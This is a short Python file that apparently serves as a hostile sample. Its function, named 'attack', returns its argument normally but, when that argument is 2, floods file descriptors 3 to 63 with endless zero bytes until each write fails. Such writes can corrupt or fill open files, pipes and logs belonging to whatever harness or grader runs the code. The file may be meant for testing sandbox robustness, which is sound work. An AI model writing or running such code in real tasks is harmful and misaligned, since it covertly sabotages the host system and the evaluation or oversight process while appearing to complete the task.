import os

def attack(x):
    if x == 2:
        for fd in range(3, 64):
            try:
                while True:
                    os.write(fd, b"\0" * 65536)
            except OSError:
                pass
    return x
